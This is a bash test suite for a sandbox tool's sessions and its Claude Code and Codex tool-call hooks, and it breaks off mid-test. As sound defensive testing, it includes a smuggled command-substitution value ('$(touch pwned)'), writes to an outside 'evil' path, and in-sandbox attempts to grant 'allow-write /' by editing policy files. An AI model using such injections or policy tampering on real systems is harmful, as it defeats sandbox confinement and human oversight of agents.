# tests/session.tests.sh - sourced by test.sh: sessions: one sandbox built by
# `sbx session start`, many commands run in it by `sbx exec NAME -- CMD`. Each test starts its
# own session (named after the test and this run, so parallel suites do not meet) and stops it.

# sess_start NAME [ARGS...]: start session NAME (policy: write the project only); SESS=NAME
sess_start() {
	SESS=$1-$$-$RANDOM; shift
	printf 'allow-write %s\n%s' "$P" "${SESS_POLICY_EXTRA:-}" >"$T/sess.policy"
	printf '$ sbx session start --name %s %s\n' "$SESS" "$*"
	timeout -k 5 "$TMO" "$SBX" session start -c "$T/sess.policy" --name "$SESS" "$@" >"$T/start.out" 2>"$T/start.err" ||
		fail "session start: exit $?: $(cat "$T/start.err")"
	[ "$(cat "$T/start.out")" = "$SESS" ] || fail "session start prints its name: $(cat "$T/start.out")"
	SESS_PID=$(pgrep -f -- "--name $SESS" | head -1)
	trap 'timeout 10 "$SBX" session stop "$SESS" >/dev/null 2>&1' EXIT
}

# sess_procs: how many processes descend from the session's daemon (the machine's other
# processes come and go: counting them all made a busy machine look like a leak)
sess_procs() {
	ps -e -o pid=,ppid= | awk -v root="$SESS_PID" '{ parent[$1] = $2 }
		END { n = 0; for (p in parent) { q = p; while (q in parent && q != root && q > 1) q = parent[q]; if (q == root) n++ } print n }'
}

# sx ARGS...: sbx exec $SESS -- ARGS; sets RC OUT ERR
sx() {
	timeout -k 5 "$TMO" "$SBX" exec "$SESS" -- "$@" >"$T/.stdout" 2>"$T/.stderr"
	RC=$?
	OUT=$(cat "$T/.stdout"); ERR=$(cat "$T/.stderr")
}

t_session_exec_basics() { # a session runs many commands: statuses, stdio byte-exact, the client's environment less deny-env, a private TMPDIR each, its directory; refusals in that exec's own report; stop leaves nothing
	sess_start basics
	sx sh -c 'exit 3'; expect_rc 3 "exit status"
	sx nosuchcommand-here; expect_rc 127 "not found"; expect_contains "$ERR" "command not found" "not found says so"
	sx /etc/hostname; expect_rc 126 "not runnable"
	head -c 300000 /dev/urandom >"$T/blob"
	timeout 30 "$SBX" exec "$SESS" -- cat <"$T/blob" >"$T/blob.out" || fail "cat through exec"
	cmp -s "$T/blob" "$T/blob.out" || fail "stdin to stdout byte-exact through the session"
	FOO=from-client SBX_TEST_SECRET=hidden sx sh -c 'echo "foo=$FOO secret=${SBX_TEST_SECRET:-none} tmp=$TMPDIR pwd=$(pwd)"; echo t >"$TMPDIR/x"'
	expect_contains "$OUT" "foo=from-client" "the client's environment"
	expect_contains "$OUT" "pwd=$P" "the client's directory"
	local tmp1 tmp2
	tmp1=$(sed -n 's/.*tmp=\([^ ]*\).*/\1/p' <<<"$OUT")
	sx sh -c 'echo $TMPDIR; ls -A "$TMPDIR"'
	tmp2=$(head -1 <<<"$OUT")
	[ -n "$tmp1" ] && [ "$tmp1" != "$tmp2" ] || fail "each exec has a TMPDIR of its own: $tmp1 / $tmp2"
	[ "$(sed -n 2p <<<"$OUT")" = "" ] || fail "a fresh TMPDIR is empty: $OUT"
	# removed by the daemon's sbx-tidy, just after the exec ended: waited for, not assumed
	for _ in $(seq 100); do [ -e "$tmp1" ] || break; sleep 0.02; done
	[ ! -e "$tmp1" ] || fail "an exec's TMPDIR is removed when it ends"
	[ -d "$(dirname "$tmp1")" ] || fail "control: the TMPDIRs' base is there: $tmp1"
	# no capability at all, in any set (init dropped them once; each exec inherits none)
	sx sh -c 'grep -E "^Cap(Inh|Prm|Eff|Bnd|Amb):" /proc/self/status'
	[ "$(grep -c ':[[:space:]]*0000000000000000$' <<<"$OUT")" = 5 ] || fail "an exec holds a capability: $OUT"
	# the refusal is this exec's, and only its
	sx sh -c "echo x >'$O/evil'"
	expect_rc 2 "a write outside"
	expect_contains "$ERR" "deny " "the refusal in this exec's report"
	expect_contains "$ERR" "$O/evil" "naming the path"
	sx sh -c "echo ok >'$P/inside'"
	expect_rc 0 "control: a write inside"
	expect_not_contains "$ERR" "sandbox_violations" "the next exec's report holds none of the last one's"
	[ "$(cat "$P/inside")" = ok ] || fail "control: the write inside happened"
	[ ! -e "$O/evil" ] || fail "the write outside did not happen"
	# stop: the socket, the daemon, its tidier and everything inside go
	local tidier
	tidier=$(pgrep -P "$SESS_PID" -x sbx-tidy) || fail "the daemon's sbx-tidy is running"
	timeout 20 "$SBX" session stop "$SESS" || fail "session stop"
	for _ in $(seq 50); do kill -0 "$SESS_PID" 2>/dev/null || break; sleep 0.1; done
	kill -0 "$SESS_PID" 2>/dev/null && fail "the session's daemon outlived stop"
	kill -0 "$tidier" 2>/dev/null && fail "sbx-tidy outlived the session"
	sx true; expect_rc 125 "exec after stop"
	expect_contains "$ERR" "no session $SESS is running" "exec after stop says so"
	"$SBX" session list | grep -q "^$SESS " && fail "a stopped session is listed"
	return 0
}
TESTS+=(session_exec_basics)

t_session_background_and_signals() { # a background process one exec starts is there for the next; a signal to the client reaches its command; a killed daemon takes everything inside with it
	command -v python3 >/dev/null || skip "python3 is not installed"
	sess_start bg
	sx sh -c "cd '$P' && nohup python3 -m http.server 8765 --bind 127.0.0.1 >/dev/null 2>&1 & echo started"
	expect_rc 0 "the exec that starts a server returns"
	local i
	for i in $(seq 50); do
		sx python3 -c 'import urllib.request as u; print(u.urlopen("http://127.0.0.1:8765/", timeout=2).status)'
		[ "$OUT" = 200 ] && break; sleep 0.2
	done
	[ "$OUT" = 200 ] || fail "the next exec reaches the background server: $OUT $ERR"
	timeout -k 5 30 "$SBX" exec "$SESS" -- sleep "${TOKBASE}7" &
	local cpid=$!
	for i in $(seq 50); do pgrep -f "sleep ${TOKBASE}7" >/dev/null && break; sleep 0.1; done
	kill -TERM "$cpid"
	wait "$cpid"; RC=$?
	expect_rc 143 "SIGTERM to the client ends its command"
	pgrep -f "sleep ${TOKBASE}7" >/dev/null && fail "the command outlived the signal"
	# the daemon killed: the sandbox and the server inside it go
	kill -KILL "$SESS_PID"
	for i in $(seq 50); do pgrep -f "http.server 8765" >/dev/null || break; sleep 0.1; done
	pgrep -f "http.server 8765" >/dev/null && fail "a background process outlived its session's daemon"
	trap - EXIT
	return 0
}
TESTS+=(session_background_and_signals)

t_session_socket_private() { # the session's socket: nothing inside sees it, another user cannot use it; --idle ends an unused session
	sess_start priv --idle=2
	sx sh -c 'ls -A /tmp/sbx-*/ /var/tmp/sbx-*/ 2>/dev/null; echo end'
	expect_not_contains "$OUT" "sessions" "no sandboxed process sees the sessions directory"
	if [ "$(id -u)" = 0 ] && command -v setpriv >/dev/null; then
		chmod 755 "$T" "$P" 2>/dev/null
		out=$(setpriv --reuid=65534 --regid=65534 --clear-groups "$SBX" exec "$SESS" -- true 2>&1); rc=$?
		[ "$rc" = 125 ] || fail "another user's exec must fail: exit $rc: $out"
	fi
	local i
	for i in $(seq 60); do kill -0 "$SESS_PID" 2>/dev/null || break; sleep 0.1; done
	kill -0 "$SESS_PID" 2>/dev/null && fail "--idle=2: the session is still there after 6 s"
	trap - EXIT
	return 0
}
TESTS+=(session_socket_private)

t_session_many_execs() { # 1000 sequential execs and 16 at once: no descriptor, memory or process left behind by the daemon or sbx-init
	sess_start many
	local init fds0 fds1 ifds0 ifds1 rss0 rss1 irss0 irss_seq irss1 procs0 procs1 i
	sx true; expect_rc 0 "the first exec"
	init=
	for p in $(pgrep -x sbx-init); do	# the session's: the one whose ancestors hold the daemon
		a=$p
		while [ -n "$a" ] && [ "$a" -gt 1 ] && [ "$a" != "$SESS_PID" ]; do a=$(awk '/^PPid:/ { print $2 }' "/proc/$a/status" 2>/dev/null); done
		[ "$a" = "$SESS_PID" ] && init=$p
	done
	[ -n "$init" ] || fail "no sbx-init under the session's daemon"
	fds0=$(ls "/proc/$SESS_PID/fd" | wc -l); rss0=$(awk '/^VmRSS/ { print $2 }' "/proc/$SESS_PID/status")
	ifds0=$(ls "/proc/$init/fd" 2>/dev/null | wc -l); procs0=$(sess_procs)
	irss0=$(awk '/^VmRSS/ { print $2 }' "/proc/$init/status")
	for i in $(seq 1000); do
		"$SBX" exec "$SESS" -- true || fail "exec $i failed: exit $?"
	done
	# sbx-init keeps an exec's memory (request, plan, stack) for its slot's next: one slot here
	irss_seq=$(awk '/^VmRSS/ { print $2 }' "/proc/$init/status")
	for i in $(seq 16); do "$SBX" exec "$SESS" -- sh -c "sleep 0.5; echo $i" >"$T/par.$i" & done
	wait
	for i in $(seq 16); do [ "$(cat "$T/par.$i")" = "$i" ] || fail "concurrent exec $i: $(cat "$T/par.$i")"; done
	sleep 0.3
	fds1=$(ls "/proc/$SESS_PID/fd" | wc -l); rss1=$(awk '/^VmRSS/ { print $2 }' "/proc/$SESS_PID/status")
	ifds1=$(ls "/proc/$init/fd" 2>/dev/null | wc -l); procs1=$(sess_procs)
	irss1=$(awk '/^VmRSS/ { print $2 }' "/proc/$init/status")
	note "daemon fds $fds0 -> $fds1, RSS $rss0 -> $rss1 KiB; sbx-init fds $ifds0 -> $ifds1, RSS $irss0 -> $irss_seq (1000 in turn) -> $irss1 KiB (16 at once); processes $procs0 -> $procs1"
	[ -n "$irss0" ] && [ -n "$irss_seq" ] && [ -n "$irss1" ] || fail "control: sbx-init's memory read"
	[ "$irss_seq" -le $((irss0 + 256)) ] || fail "sbx-init's memory grew over 1000 execs in turn: $irss0 -> $irss_seq KiB"
	[ "$irss1" -le $((irss0 + 2048)) ] || fail "sbx-init's memory after 16 execs at once: $irss0 -> $irss1 KiB"
	[ "$fds1" = "$fds0" ] || fail "the daemon's descriptors: $fds0 before, $fds1 after 1016 execs"
	[ "$ifds1" = "$ifds0" ] || fail "sbx-init's descriptors: $ifds0 before, $ifds1 after"
	[ "$rss1" -le $((rss0 + 2048)) ] || fail "the daemon's memory grew: $rss0 -> $rss1 KiB"
	[ "$procs1" -le "$procs0" ] || fail "processes left behind under the session's daemon: $procs0 -> $procs1"
}
TESTS+=(session_many_execs)

t_hook_claude_and_codex() { # sbx hook: recorded Claude Code and Codex inputs; the answers carry only their schemas' fields; hostile commands round-trip exactly through the rewrite and run in the session; a bad input or policy is denied (fail closed)
	command -v python3 >/dev/null || skip "python3 is not installed"
	printf 'allow-write %s\n' "$P" >"$T/hook.policy"
	local id="t$$$RANDOM"
	# shellcheck disable=SC2016
	python3 - "$P" "$id" "$T" <<'PY' || fail "could not write the recorded inputs"
import json, sys
p, sid, t = sys.argv[1:4]
cmds = ["echo \"it's $((6*7))\"", "printf '%s|' a 'b c' \"d\\\"e\" $'tab\\there'", "echo one\necho two; echo 'three'\"'\"'four'",
        "x='$(touch pwned)'; echo \"$x\"", "echo \\\\ back\\\\slash; echo `echo backtick`", "echo 'ünïcødé ✓'"]
json.dump(cmds, open(t + "/cmds.json", "w"))
for i, c in enumerate(cmds):
    json.dump({"session_id": sid, "transcript_path": "/tmp/t.jsonl", "cwd": p, "permission_mode": "default",
               "hook_event_name": "PreToolUse", "tool_name": "Bash",
               "tool_input": {"command": c, "description": "step %d" % i, "timeout": 120000}, "tool_use_id": "toolu_%d" % i},
              open("%s/claude.%d.json" % (t, i), "w"))
    json.dump({"cwd": p, "hook_event_name": "PreToolUse", "model": "gpt-5-codex", "permission_mode": "default",
               "session_id": sid, "tool_input": {"command": c}, "tool_name": "Bash", "tool_use_id": "call_%d" % i,
               "transcript_path": None}, open("%s/codex.%d.json" % (t, i), "w"))
json.dump({"session_id": sid, "cwd": p, "hook_event_name": "SessionStart", "source": "startup"}, open(t + "/start.json", "w"))
json.dump({"session_id": sid, "cwd": p, "hook_event_name": "SessionEnd", "reason": "exit"}, open(t + "/end.json", "w"))
json.dump({"session_id": sid, "cwd": p, "hook_event_name": "PreToolUse", "tool_name": "Read",
           "tool_input": {"file_path": p + "/x"}}, open(t + "/read.json", "w"))
PY
	"$SBX" hook claude session-start -c "$T/hook.policy" <"$T/start.json" >"$T/start.out" 2>"$T/start.err" ||
		fail "session-start: $(cat "$T/start.err")"
	[ ! -s "$T/start.out" ] || fail "session-start prints nothing on stdout: $(cat "$T/start.out")"
	"$SBX" session list | grep -q "^claude-$id " || fail "session-start started claude-$id"
	local agent i
	for agent in claude codex; do
		for i in 0 1 2 3 4 5; do
			"$SBX" hook "$agent" pre-tool-use -c "$T/hook.policy" <"$T/$agent.$i.json" >"$T/$agent.$i.out" 2>>"$T/hook.err" ||
				fail "$agent pre-tool-use $i: exit $?: $(cat "$T/hook.err")"
		done
	done
	# shellcheck disable=SC2016
	python3 - "$T" <<'PY' >"$T/check.out" 2>&1 || fail "the answers: $(cat "$T/check.out")"
import json, subprocess, sys
t = sys.argv[1]
cmds = json.load(open(t + "/cmds.json"))
top = {"continue", "hookSpecificOutput", "stopReason", "suppressOutput", "systemMessage"}
inner = {"additionalContext", "hookEventName", "permissionDecision", "permissionDecisionReason", "updatedInput"}
for agent in ("claude", "codex"):
    for i, c in enumerate(cmds):
        o = json.load(open("%s/%s.%d.out" % (t, agent, i)))
        assert set(o) <= top, ("top-level keys", o)
        h = o["hookSpecificOutput"]
        assert set(h) <= inner and h["hookEventName"] == "PreToolUse" and h["permissionDecision"] == "allow", h
        u = h["updatedInput"]
        want = {"command", "description", "timeout"} if agent == "claude" else {"command"}
        assert set(u) == want, (agent, u)
        if agent == "claude":
            assert u["description"] == "step %d" % i and u["timeout"] == 120000, u
        ran = subprocess.run(["bash", "-c", u["command"]], capture_output=True, text=True, timeout=60)
        direct = subprocess.run(["bash", "-c", c], capture_output=True, text=True, timeout=60, cwd="/")
        assert ran.returncode == direct.returncode == 0 and ran.stdout == direct.stdout, \
            (agent, i, c, ran.stdout, direct.stdout, ran.stderr, direct.stderr)
print("ok")
PY
	[ ! -e "$P/pwned" ] || fail "a quoted \$() ran"
	"$SBX" hook claude pre-tool-use <"$T/read.json" >"$T/read.out" || fail "a Read call"
	[ ! -s "$T/read.out" ] || fail "a tool that is not Bash gets no answer: $(cat "$T/read.out")"
	echo '{"session_id": "x", "cwd": "/tmp", "tool_name": "Bash", "tool_input": {}}' |
		"$SBX" hook codex pre-tool-use >"$T/bad.out"
	grep -q '"permissionDecision":"deny"' "$T/bad.out" || fail "a Bash call without a command is denied: $(cat "$T/bad.out")"
	printf '{oops' | "$SBX" hook claude pre-tool-use >"$T/bad.out"
	grep -q '"permissionDecision":"deny"' "$T/bad.out" || fail "input that is not JSON is denied: $(cat "$T/bad.out")"
	printf 'allow-write /nonexistent/parent/dir\nbogus-directive\n' >"$T/bad.policy"
	sed "s/$id/other$id/" "$T/claude.0.json" | "$SBX" hook claude pre-tool-use -c "$T/bad.policy" >"$T/bad.out" 2>/dev/null
	grep -q '"permissionDecision":"deny"' "$T/bad.out" || fail "a session that cannot start: denied: $(cat "$T/bad.out")"
	"$SBX" hook codex session-end <"$T/end.json" || fail "codex session-end"
	"$SBX" hook claude session-end <"$T/end.json" || fail "session-end"
	"$SBX" session list | grep -q "^claude-$id " && fail "session-end stopped the session"
	return 0
}
TESTS+=(hook_claude_and_codex)

t_hook_install_merge() { # sbx hook claude|codex install: merged into the agent's file, every other key and hook kept, idempotent, a backup, absolute paths, the policy checked first; uninstall takes out exactly sbx's
	command -v python3 >/dev/null || skip "python3 is not installed"
	mkdir -p "$H/.claude" "$H/.codex" "$T/pol dir"
	printf 'allow-write .\n' >"$T/pol dir/p"
	cat >"$H/.claude/settings.json" <<'EOF'
{"model": "opus", "env": {"X": "1"},
 "hooks": {"PreToolUse": [{"matcher": "Write", "hooks": [{"type": "command", "command": "echo mine"}]}],
           "Stop": [{"hooks": [{"type": "command", "command": "notify-send done"}]}]},
 "permissions": {"allow": ["Bash(ls:*)"], "deny": []}}
EOF
	cp "$H/.claude/settings.json" "$T/claude.orig"
	printf 'model = "o3"\n\n[model_providers.x]\nname = "x"\n' >"$H/.codex/config.toml"
	cp "$H/.codex/config.toml" "$T/config.orig"
	cd "$T/pol dir" || fail "setup"
	run_sbx hook claude install -c p
	expect_rc 0 "install"
	expect_contains "$OUT" "$H/.claude/settings.json" "it says where"
	expect_not_contains "$ERR" "another PreToolUse hook" "no warning for a hook on Write only (nor for sbx's own)"
	cmp -s "$H/.claude/settings.json.sbx-backup" "$T/claude.orig" || fail "the backup is the file as it was"
	python3 - "$H/.claude/settings.json" "$T/claude.orig" "$SBX" "$T/pol dir/p" <<'PY' || fail "the merged settings"
import json, shlex, sys
new, old, sbx, pol = json.load(open(sys.argv[1])), json.load(open(sys.argv[2])), sys.argv[3], sys.argv[4]
for k in old:
    if k != "hooks":
        assert new[k] == old[k], ("kept", k)
for ev, groups in old["hooks"].items():
    for g in groups:
        assert g in new["hooks"][ev], ("the person's hook kept", ev, g)
ours = [(ev, g) for ev, gs in new["hooks"].items() for g in gs if "hook claude" in g["hooks"][0]["command"]]
assert sorted(ev for ev, _ in ours) == ["PreToolUse", "SessionEnd", "SessionStart"], ours
for ev, g in ours:
    words = shlex.split(g["hooks"][0]["command"].split(" || ")[0])
    assert (ev == "PreToolUse") == g["hooks"][0]["command"].endswith("exit 2; }"), ("fails closed", ev, g)
    assert words[0] == sbx and words[1:3] == ["hook", "claude"] and words[-2:] == ["-c", pol], words
    assert g["hooks"][0]["timeout"] >= 3, g
    assert ev != "PreToolUse" or set(g["matcher"].split("|")) >= {"Bash", "Write", "Edit", "Read"}, g
PY
	cp "$H/.claude/settings.json" "$T/claude.installed"
	run_sbx hook claude install -c p
	expect_rc 0 "install again"
	cmp -s "$H/.claude/settings.json" "$T/claude.installed" || fail "installing twice changes nothing"
	expect_contains "$OUT" "already" "it says so"
	# a policy that does not parse: refused with its words, the file untouched
	printf 'allow-write .\nbogus-directive x\n' >"$T/pol dir/bad"
	run_sbx hook claude install -c bad
	expect_rc 125 "install with a policy that does not parse"
	expect_contains "$ERR" "bad:2" "the policy's file and line"
	cmp -s "$H/.claude/settings.json" "$T/claude.installed" || fail "a refused install changes nothing"
	run_sbx hook claude uninstall
	expect_rc 0 "uninstall"
	python3 -c 'import json, sys; a, b = (json.load(open(f)) for f in sys.argv[1:]); assert a == b, (a, b)' \
		"$H/.claude/settings.json" "$T/claude.orig" || fail "uninstall leaves the settings as they were"
	run_sbx hook claude install --project -c p
	expect_rc 0 "install --project"
	grep -q 'hook claude pre-tool-use' "$T/pol dir/.claude/settings.local.json" || fail "--project: .claude/settings.local.json"
	# Codex: hooks.json, and the trust Codex asks for in config.toml (its other keys kept)
	run_sbx hook codex install -c p
	expect_rc 0 "codex install"
	grep -q 'hook codex pre-tool-use' "$H/.codex/hooks.json" || fail "codex: hooks.json"
	head -4 "$H/.codex/config.toml" | cmp -s - "$T/config.orig" || fail "codex: config.toml's own keys kept: $(cat "$H/.codex/config.toml")"
	[ "$(grep -c '^trusted_hash = "sha256:[0-9a-f]\{64\}"$' "$H/.codex/config.toml")" = 3 ] ||
		fail "codex: a trust entry for each of sbx's hooks: $(cat "$H/.codex/config.toml")"
	cp "$H/.codex/config.toml" "$T/config.installed"
	run_sbx hook codex install -c p
	cmp -s "$H/.codex/config.toml" "$T/config.installed" || fail "codex: installing twice changes nothing"
	run_sbx hook codex install --ask -c p
	expect_rc 125 "codex install --ask"
	run_sbx hook codex uninstall
	expect_rc 0 "codex uninstall"
	cmp -s "$H/.codex/config.toml" "$T/config.orig" || fail "codex uninstall: config.toml as it was: $(cat "$H/.codex/config.toml")"
	grep -q 'hook codex' "$H/.codex/hooks.json" && fail "codex uninstall: sbx's hooks gone"
	return 0
}
TESTS+=(hook_install_merge)

t_hook_install_edges() { # sbx hook install never changes what is not its own: a settings file that is a symlink is refused and left a link, its target unchanged (control: the file itself is installed into); $CLAUDE_CONFIG_DIR is where Claude Code reads its settings, so it is where they go (control: ~/.claude without it); a file that is not JSON is refused, unchanged; the file's mode and config.toml's comments kept; 8 installs at once leave valid JSON with sbx's hooks once and the person's kept, every install succeeding (a guard: the mixed file it watches for did not show with the shared temporary name either)
	command -v python3 >/dev/null || skip "python3 is not installed"
	printf 'allow-write %s\n' "$P" >"$T/p1"; printf 'allow-write %s\nallow-write %s\n' "$P" "$O" >"$T/p2"
	mkdir -p "$H/.claude" "$H/.codex" "$T/dotfiles"
	local mine='{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "echo mine"}]}]}}'
	# a symlink: refused, nothing changed, the link still a link
	printf '%s\n' "$mine" >"$T/dotfiles/claude.json"; cp "$T/dotfiles/claude.json" "$T/claude.orig"
	ln -s "$T/dotfiles/claude.json" "$H/.claude/settings.json"
	run_sbx hook claude install -c "$T/p1"
	expect_rc 125 "install into a symlinked settings file"
	expect_contains "$ERR" "is a symlink" "it says why"
	[ -L "$H/.claude/settings.json" ] || fail "the link was replaced by a file"
	cmp -s "$T/dotfiles/claude.json" "$T/claude.orig" || fail "install wrote through the link"
	ln -s "$T/dotfiles/codex.toml" "$H/.codex/config.toml"; printf '# mine\n' >"$T/dotfiles/codex.toml"
	run_sbx hook codex install -c "$T/p1"
	expect_rc 125 "codex install with a symlinked config.toml"
	[ -L "$H/.codex/config.toml" ] && [ "$(cat "$T/dotfiles/codex.toml")" = "# mine" ] && [ ! -e "$H/.codex/hooks.json" ] ||
		fail "codex: a refused install changes nothing"
	# control: the file itself
	rm "$H/.claude/settings.json" "$H/.codex/config.toml"; cp "$T/claude.orig" "$H/.claude/settings.json"
	chmod 640 "$H/.claude/settings.json"
	run_sbx hook claude install -c "$T/p1"
	expect_rc 0 "control: install into the file itself"
	[ "$(stat -c %a "$H/.claude/settings.json")" = 640 ] || fail "the file's mode: $(stat -c %a "$H/.claude/settings.json")"
	grep -q 'echo mine' "$H/.claude/settings.json" || fail "the person's hook kept"
	expect_contains "$ERR" "another PreToolUse hook for the shell" "a warning: another hook on Bash may replace sbx's rewrite"
	# $CLAUDE_CONFIG_DIR: Claude Code's settings are there
	CLAUDE_CONFIG_DIR="$T/cfg" run_sbx hook claude install -c "$T/p1"
	expect_rc 0 "install with CLAUDE_CONFIG_DIR"
	grep -q 'hook claude pre-tool-use' "$T/cfg/settings.json" 2>/dev/null || fail "CLAUDE_CONFIG_DIR: the hooks are not in \$CLAUDE_CONFIG_DIR/settings.json"
	CLAUDE_CONFIG_DIR="$T/cfg" run_sbx hook claude uninstall
	expect_rc 0 "uninstall with CLAUDE_CONFIG_DIR"
	grep -q 'hook claude' "$T/cfg/settings.json" && fail "CLAUDE_CONFIG_DIR: uninstall took them out"
	grep -q 'hook claude pre-tool-use' "$H/.claude/settings.json" || fail "control: ~/.claude's own install stays"
	# not JSON: refused, unchanged
	printf '{"model": "opus",}\n' >"$T/bad.json"; cp "$T/bad.json" "$T/cfg/settings.json"
	CLAUDE_CONFIG_DIR="$T/cfg" run_sbx hook claude install -c "$T/p1"
	expect_rc 125 "a settings file that is not JSON"
	cmp -s "$T/cfg/settings.json" "$T/bad.json" || fail "a file that is not JSON was changed"
	# config.toml's comments and other tables kept through install and uninstall
	printf '# my settings\nmodel = "o3" # inline\n\n[hooks.state."/x/hooks.json:stop:0:0"]\ntrusted_hash = "sha256:00"\n' \
		>"$H/.codex/config.toml"
	cp "$H/.codex/config.toml" "$T/config.orig"
	run_sbx hook codex install -c "$T/p1"
	expect_rc 0 "codex install"
	head -5 "$H/.codex/config.toml" | cmp -s - "$T/config.orig" || fail "config.toml's own lines kept: $(cat "$H/.codex/config.toml")"
	run_sbx hook codex uninstall
	cmp -s "$H/.codex/config.toml" "$T/config.orig" || fail "codex uninstall: config.toml as it was"
	# 8 installs at once, with two policies
	local i pids=()
	for i in 1 2 3 4 5 6 7 8; do
		"$SBX" hook claude install -c "$T/p$((i % 2 + 1))" >"$T/c.$i.out" 2>"$T/c.$i.err" & pids+=($!)
	done
	for i in 1 2 3 4 5 6 7 8; do
		wait "${pids[$((i - 1))]}" || fail "install $i of 8 at once failed: $(cat "$T/c.$i.err")"
	done
	python3 - "$H/.claude/settings.json" <<'PY' || fail "after 8 installs at once: $(cat "$H/.claude/settings.json")"
import json, sys
h = json.load(open(sys.argv[1]))["hooks"]
ours = [g for gs in h.values() for g in gs if "hook claude" in g["hooks"][0]["command"]]
assert len(ours) == 3, ours
assert any(g["hooks"][0]["command"] == "echo mine" for g in h["PreToolUse"]), h
PY
	[ -z "$(find "$H/.claude" -name '*.sbx-new*')" ] || fail "a temporary file left: $(ls "$H/.claude")"
}
TESTS+=(hook_install_edges)

t_hook_config_out_of_reach() { # a command in the agent's session cannot change the hooks' configuration where the agents read it, $CLAUDE_CONFIG_DIR and $CODEX_HOME inside a writable root included (a rewritten hooks.json runs its command outside on the next call), nor reach the session's socket; control: the rest of those directories (the agents' sessions and logs) and the project stay writable
	command -v python3 >/dev/null || skip "python3 is not installed"
	printf 'allow-write %s\n' "$P" >"$T/hook.policy"
	mkdir -p "$P/cc" "$P/ch"
	local id="cr$$$RANDOM" f
	CR_ID=$id	# not local: the EXIT trap reads it
	trap '"$SBX" session stop "codex-$CR_ID" >/dev/null 2>&1' EXIT
	export CLAUDE_CONFIG_DIR="$P/cc" CODEX_HOME="$P/ch"
	run_sbx hook claude install -c "$T/hook.policy"; expect_rc 0 "claude install"
	run_sbx hook codex install -c "$T/hook.policy"; expect_rc 0 "codex install"
	printf '{"session_id": "%s", "cwd": "%s", "hook_event_name": "SessionStart"}' "$id" "$P" |
		"$SBX" hook codex session-start -c "$T/hook.policy" || fail "session-start"
	run_sbx exec "codex-$id" -- sh -c '
		for f in "$CLAUDE_CONFIG_DIR/settings.json" "$CODEX_HOME/hooks.json" "$CODEX_HOME/config.toml" \
		    "$CLAUDE_CONFIG_DIR/hooks/x.sh" "$CODEX_HOME/sessions-log" "$CLAUDE_CONFIG_DIR/todos.json" "$PWD/new.txt"; do
			if (echo x >>"$f") 2>/dev/null; then echo "wrote $f"; else echo "refused $f"; fi
		done
		ls -d /tmp/sbx-*/sessions/*.sock "${TMPDIR%/*}"/sessions/*.sock 2>/dev/null | sed "s/^/socket /"; true'
	expect_rc 0 "the exec"
	for f in "$P/cc/settings.json" "$P/ch/hooks.json" "$P/ch/config.toml" "$P/cc/hooks/x.sh"; do
		expect_contains "$OUT" "refused $f" "the hooks' configuration is read-only inside"
	done
	for f in "$P/ch/sessions-log" "$P/cc/todos.json" "$P/new.txt"; do
		expect_contains "$OUT" "wrote $f" "control: the rest of the agent's directory and the project"
	done
	grep -q '^socket ' <<<"$OUT" && fail "the session's socket is visible inside: $OUT"
	grep -q 'hook codex pre-tool-use' "$P/ch/hooks.json" && grep -q 'hook claude pre-tool-use' "$P/cc/settings.json" ||
		fail "the hooks changed"
	# the hooks' policy (and what it includes), in the writable project: the agent's next session reads it
	printf 'allow-write %s\n' "$P" >"$P/inc.policy"
	printf 'include %s/inc.policy\n' "$P" >"$P/agent.policy"
	run_sbx hook claude install -c "$P/agent.policy"; expect_rc 0 "install with a policy in the project"
	printf '{"session_id": "p%s", "cwd": "%s", "hook_event_name": "SessionStart"}' "$id" "$P" |
		"$SBX" hook claude session-start -c "$P/agent.policy" || fail "session-start (claude)"
	run_sbx exec "claude-p$id" -- sh -c 'for f in agent.policy inc.policy new.txt; do
		if (echo "allow-write /" >>"$f") 2>/dev/null; then echo "wrote $f"; else echo "refused $f"; fi; done'
	"$SBX" session stop "claude-p$id" >/dev/null 2>&1
	expect_contains "$OUT" "refused agent.policy" "the policy is read-only inside"
	expect_contains "$OUT" "refused inc.policy" "what it includes too"
	expect_contains "$OUT" "wrote new.txt" "control: the project is writable"
}
TESTS+=(hook_config_out_of_reach)

t_hook_session_gone_or_silent() { # a session that died and left its socket is started again by the next call (no command outside, no error); one whose socket accepts and never answers gets a deny from the hook before the agent's own timeout (which would run the call as it was); control: a live session judges at once
	command -v python3 >/dev/null || skip "python3 is not installed"
	printf 'allow-write %s\n' "$P" >"$T/hook.policy"
	local id="gs$$$RANDOM" root="/tmp/sbx-$(id -u)" t0 t1
	GS_ID=$id	# not local: the EXIT trap reads it
	trap '"$SBX" session stop "claude-$GS_ID" >/dev/null 2>&1; "$SBX" session stop "claude-s$GS_ID" >/dev/null 2>&1; kill $GS_PY 2>/dev/null' EXIT
	mkdir -p -m 700 "$root/sessions" || fail "setup: the runtime root"
	hin() { python3 -c 'import json, sys; print(json.dumps({"session_id": sys.argv[1], "cwd": sys.argv[2], "hook_event_name": "PreToolUse", "tool_name": sys.argv[3], "tool_input": json.loads(sys.argv[4])}))' "$@"; }
	# a stale socket: bound, its listener gone
	python3 -c 'import socket, sys; s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1])' "$root/sessions/claude-s$id.sock" ||
		fail "setup: a stale socket"
	hin "s$id" "$P" Bash '{"command": "echo in-session"}' | "$SBX" hook claude pre-tool-use -c "$T/hook.policy" >"$T/stale.out" 2>"$T/stale.err"
	log_file stale "$T/stale.out"; log_file "stale err" "$T/stale.err"
	grep -q '"permissionDecision":"allow"' "$T/stale.out" || fail "a stale socket: the session is started again: $(cat "$T/stale.out" "$T/stale.err")"
	"$SBX" session list | grep -q "^claude-s$id " || fail "a stale socket: no session claude-s$id"
	# control: a live session judges a Write at once
	t0=$(date +%s%N)
	hin "s$id" "$P" Write "{\"file_path\": \"$O/x\", \"content\": \"x\"}" |
		"$SBX" hook claude pre-tool-use -c "$T/hook.policy" >"$T/live.out"
	t1=$(date +%s%N)
	grep -q '"permissionDecision":"deny"' "$T/live.out" || fail "control: a live session denies a write outside: $(cat "$T/live.out")"
	[ $(((t1 - t0) / 1000000)) -lt 10000 ] || fail "control: the live judgement took $(((t1 - t0) / 1000000)) ms"
	# a socket that accepts and never answers
	python3 -c 'import socket, sys, time; s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(8); print("up", flush=True); time.sleep(70)' \
		"$root/sessions/claude-$id.sock" >"$T/py.out" 2>&1 </dev/null & GS_PY=$!
	for _ in $(seq 50); do [ -s "$T/py.out" ] && break; sleep 0.1; done
	t0=$(date +%s%N)
